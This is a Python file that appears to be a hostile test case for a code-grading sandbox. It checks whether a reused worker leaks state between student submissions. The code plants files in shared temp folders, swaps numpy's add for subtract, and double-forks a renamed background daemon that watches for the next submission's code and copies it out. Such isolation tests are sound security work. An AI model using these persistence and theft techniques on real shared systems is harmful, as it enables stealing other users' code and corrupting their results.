"""Hostile (the students graded after it by the same worker, a warm one where the machine
allows): plants what a later sandbox could pick up — a file in every folder it might share
with the next (/tmp, /dev/shm, /var/tmp, its home and the folders above it), a changed
numpy, and a daemon that waits for the next submission's code to appear and copies it out.
It scores nothing itself: warm_2_victim (honest, but poisoned by any plant it finds) and
warm_3_reader (full marks only with the stolen code) show what got through. With resource
limits only all of it does; a warm worker must keep nothing of one sandbox for the next."""

import glob
import os
import time

import numpy as np

from attack import VICTIM_MARK, WARM_PLANT, WARM_STOLEN, leave, shared_places, zeros_after

_planted = []


def _daemon() -> None:
    """Double fork, new session; for 30 s, copy any submission that carries the victim's mark."""
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() == 0:
            _steal()
    finally:
        os._exit(0)  # a copy of the worker must never return into its request loop


def _steal() -> None:
    with open("/proc/self/comm", "w") as handle:
        handle.write("HSTL_warm_thief")
    patterns = ["/slot/*/submission/*.py", "/submission/*.py"]
    for folder in shared_places()[3:]:
        patterns += [f"{folder}/*/submission/*.py", f"{folder}/*/*/submission/*.py"]
    ends = time.monotonic() + 30
    while time.monotonic() < ends:
        for path in {p for pattern in patterns for p in glob.glob(pattern)}:
            try:
                with open(path) as handle:
                    text = handle.read()
            except OSError:
                continue
            if VICTIM_MARK in text:
                leave(WARM_STOLEN, text)
                return
        time.sleep(0.02)


def _plant() -> None:
    if _planted:
        return
    _planted.append(True)
    leave(WARM_PLANT, "planted by warm_1_plant")
    np.grader_hostile_planted = True
    np.add = np.subtract  # in this process: a fork of the zygote must not pass it on
    _daemon()


my_imfilter, create_hybrid_image = zeros_after(_plant)
